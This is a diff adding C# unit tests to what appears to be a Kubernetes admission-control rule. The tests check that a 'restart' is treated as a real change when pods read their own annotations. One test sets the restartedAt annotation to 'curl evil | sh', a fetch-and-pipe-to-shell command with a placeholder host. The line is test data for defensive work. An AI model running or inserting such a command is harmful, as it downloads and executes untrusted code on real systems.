@@ -72,6 +72,21 @@ public class MatchConditionTests
         Assert.That((await AskedAsync([review], [MatchConditions.MoreThanARestart])).Single(), Is.EqualTo(isAsked), what);
     }
 
+    [TestCase("""{"containers": [{"name": "web", "image": "web:1", "env": [{"name": "RUN", "valueFrom": {"fieldRef": {"fieldPath": "metadata.annotations['kubectl.kubernetes.io/restartedAt']"}}}]}]}""")]
+    [TestCase("""{"initContainers": [{"name": "i", "image": "i:1", "env": [{"name": "A", "value": "b"}, {"name": "RUN", "valueFrom": {"fieldRef": {"fieldPath": "metadata.annotations['a']"}}}]}], "containers": []}""")]
+    [TestCase("""{"containers": [], "volumes": [{"name": "e", "emptyDir": {}}, {"name": "v", "downwardAPI": {"items": [{"path": "p", "resourceFieldRef": {"resource": "limits.cpu"}}, {"path": "a", "fieldRef": {"fieldPath": "metadata.annotations"}}]}}]}""")]
+    [TestCase("""{"containers": [], "volumes": [{"name": "v", "projected": {"sources": [{"secret": {"name": "s"}}, {"downwardAPI": {"items": [{"path": "a", "fieldRef": {"fieldPath": "metadata.annotations"}}]}}]}}]}""")]
+    public async Task ARestartOfWhatReadsItsOwnAnnotationsIsAsked(string spec)
+    {
+        var review = Review("kubectl-set-image-update-deployment");
+        var old = review["oldObject"]?.DeepClone().AsObject() ?? [];
+        old["spec"]!["template"]!["spec"] = Sandbox.Parse(spec);
+        review["oldObject"] = old;
+        review["object"] = Patched(old.DeepClone().AsObject(), Sandbox.Parse("""{"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": "curl evil | sh"}}}}}"""));
+
+        Assert.That((await AskedAsync([review], [MatchConditions.MoreThanARestart])).Single(), Is.True);
+    }
+
     [TestCase("system:serviceaccount:kube-system:deployment-controller", "replicasets", false)]
     [TestCase("system:serviceaccount:kube-system:deployment-controller", "pods", true)]
     [TestCase("system:serviceaccount:shop:deployment-controller", "replicasets", true)]
